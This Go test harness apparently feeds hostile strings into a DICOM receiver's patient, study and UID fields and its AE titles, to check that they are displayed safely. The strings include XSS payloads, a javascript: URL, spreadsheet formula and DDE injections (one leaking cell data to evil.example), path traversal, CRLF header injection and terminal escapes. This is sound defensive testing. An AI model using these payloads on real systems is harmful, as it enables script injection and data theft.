package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
	"time"

	"edged/dimse"
	"edged/internal/dicom"
)

// What a name may be made of, from strangers and from broken devices. Whatever of it
// runs says so in window.owned; whatever becomes an element carries data-canary.
var hostileTexts = map[string]string{
	"markup":     `<b data-canary="1">PROVA</b>^<i data-canary="1">x</i>`,
	"script":     `PROVA<script>window.owned=1;alert(1)</script>`,
	"attribute":  `PROVA" onmouseover="window.owned=1" data-canary="1" x='`,
	"image":      `PROVA<img data-canary="1" src=x onerror="window.owned=1;alert(1)">`,
	"vector":     `PROVA<svg data-canary="1" onload="window.owned=1"></svg></title></textarea></style>`,
	"address":    `javascript:window.owned=1//PROVA`,
	"htmx":       `PROVA<div data-canary="1" hx-get="/api/v1/status" hx-trigger="load" hx-on::load="window.owned=1"></div>`,
	"override":   "PROVA\u202eTXET DESREVER",
	"isolate":    "PROVA\u2067\u2066\u202bx\u202dy^z",
	"arabic":     "PROVA^مريض ١٢٣ תייר",
	"controls":   "PROVA\x00\x01\x07\x08\x0b\x7f\u0085\u2028\u2029^X",
	"terminal":   "PROVA\x1b[2J\x1b[31m\x1b]0;owned\x07^X",
	"emoji":      "PROVA^🩻👩‍⚕️🏳️‍🌈",
	"accents":    "PROVA" + strings.Repeat("\u0301\u0336\u0489", 300) + "^X",
	"invisible":  "PROVA\u200b\u200d\u2060\ufeff\u00ad^\u3164X",
	"template":   `{{.}}{{printf "%s" .D}}${7*7}<%= 7*7 %>#{7*7}PROVA`,
	"formula":    `=HYPERLINK("http://evil.example/?"&A1,"PROVA")`,
	"plus":       "+PROVA+cmd|' /C calc'!A0",
	"at":         "@SUM(1+1)*cmd|' /C calc'!A0",
	"path":       `../../../../etc/PROVA%00%2e%2e%2f\..\`,
	"long":       strings.Repeat("PROVALUNGO", 6553),
	"longwords":  strings.Repeat("PROVA LUNGO ", 5461),
	"broken":     "PROVA\xff\xfe\xc3\x28\xed\xa0\x80^X",
	"entities":   "PROVA&lt;b&gt;&#x202e;&amp;amp;",
	"json":       `PROVA"},{"owned":1}]}</script>`,
	"newlines":   "PROVA\r\nSet-Cookie: owned=1\r\n\r\ndata: {}\n\nevent: beat^X",
	"backslash":  `PROVA\\X\Y^^^^^=====`,
	"empty":      "",
	"whitespace": "   \u00a0 \u2003 ",
}

// hostileTitles are AE titles, at most 16 bytes.
var hostileTitles = []string{`<b>x</b>`, `"><svg onload=1>`, `<img src=x>`, "A\x1b[2J", "B\u202eDCBA", "C\x00\x01\x02", "=1+1", "{{.}}", "D\xff\xfe", "<!--", "a'b\"c&d", "🩻🩻", "\t\r\n x"}

// put is an element in Explicit VR Little Endian (PS3.5 §7.1.2).
func put(b *bytes.Buffer, group, element uint16, vr, value string) {
	value = value[:min(len(value), 65534)]
	if len(value)%2 == 1 {
		value += " "
	}
	for _, n := range []uint16{group, element} {
		binary.Write(b, binary.LittleEndian, n) // a Buffer takes everything
	}
	b.WriteString(vr)
	binary.Write(b, binary.LittleEndian, uint16(len(value)))
	b.WriteString(value)
}

// hostileObject has a text in every field that a person might be shown, and in the
// UIDs where uids is set.
func hostileObject(number int, text string, uids bool) (dicom.Names, []byte) {
	names := dicom.Names{TransferSyntax: dicom.ExplicitVRLittleEndian, SOPClass: "1.2.840.10008.5.1.4.1.1.7", SOPInstance: fmt.Sprintf("2.25.6666.%d", number)}
	study, series := fmt.Sprintf("2.25.666.%d", number), fmt.Sprintf("2.25.66.%d", number)
	if uids {
		study, series = text, text
		names.SOPInstance = text[:min(len(text), 60)] + fmt.Sprint(number)
	}
	var b bytes.Buffer
	put(&b, 0x08, 0x05, "CS", "ISO_IR 192")
	put(&b, 0x08, 0x16, "UI", names.SOPClass)
	put(&b, 0x08, 0x18, "UI", names.SOPInstance)
	for _, f := range []struct {
		group, element uint16
		vr             string
	}{{8, 0x20, "DA"}, {8, 0x30, "TM"}, {8, 0x50, "SH"}, {8, 0x60, "CS"}, {8, 0x70, "LO"}, {8, 0x80, "LO"}, {8, 0x90, "PN"}, {8, 0x1010, "SH"}, {8, 0x1030, "LO"}, {8, 0x103E, "LO"}, {8, 0x1090, "LO"},
		{0x10, 0x10, "PN"}, {0x10, 0x20, "LO"}, {0x10, 0x21, "LO"}, {0x10, 0x30, "DA"}, {0x10, 0x40, "CS"}, {0x10, 0x1000, "LO"}, {0x18, 0x15, "CS"}, {0x18, 0x1000, "LO"}} {
		put(&b, f.group, f.element, f.vr, text)
	}
	put(&b, 0x20, 0x0D, "UI", study)
	put(&b, 0x20, 0x0E, "UI", series)
	put(&b, 0x20, 0x10, "SH", text)
	put(&b, 0x20, 0x13, "IS", text)
	return names, b.Bytes()
}

// storeHostile stores all of them, as the CT does; what is not taken is no matter here.
func (p *play) storeHostile(ctx context.Context) (taken int, err error) {
	need := dimse.Need{SOPClassUID: "1.2.840.10008.5.1.4.1.1.7", TransferSyntaxUID: dicom.ExplicitVRLittleEndian}
	c, err := p.associate(ctx, "SIMCT", "EDGED", need)
	if err != nil {
		return 0, err
	}
	number := 0
	for _, text := range hostileTexts {
		for _, uids := range []bool{false, true} {
			if number++; uids && text == "" {
				continue
			}
			names, data := hostileObject(number, text, uids)
			rs, err := c.Store(ctx, dimse.StoreRequest{SOPClassUID: names.SOPClass, SOPInstanceUID: names.SOPInstance, TransferSyntaxUID: names.TransferSyntax}, bytes.NewReader(data))
			if err != nil {
				return taken, err
			}
			if rs.Status.IsSuccess() {
				taken++
			}
		}
	}
	return taken, c.Release(ctx)
}

// callHostile comes under each title, and calls by each title.
func (p *play) callHostile(ctx context.Context) error {
	need := dimse.Need{SOPClassUID: dimse.Verification, TransferSyntaxUID: dicom.ImplicitVRLittleEndian}
	for _, title := range hostileTitles {
		for _, names := range [][2]string{{title, "EDGED"}, {"SIMCT", title}} {
			c, err := p.associate(ctx, names[0], names[1], need)
			if err == nil {
				err = c.Release(ctx)
			}
			var no dimse.Reject
			var cut *dimse.AbortError
			if err != nil && !errors.As(err, &no) && !errors.As(err, &cut) {
				return fmt.Errorf("called by %q: %w", names, err)
			}
		}
	}
	return nil
}

func (p *play) associate(ctx context.Context, calling, called string, needs ...dimse.Need) (*dimse.Client, error) {
	proposals, _ := dimse.Propose(needs...)
	return dimse.Dial(ctx, dimse.ClientConfig{Address: p.stage.edged.Address, Called: called, Calling: calling, Contexts: proposals,
		ImplementationClassUID: dicom.ImplementationClassUID, ImplementationVersion: dicom.ImplementationVersionName, Response: time.Minute})
}
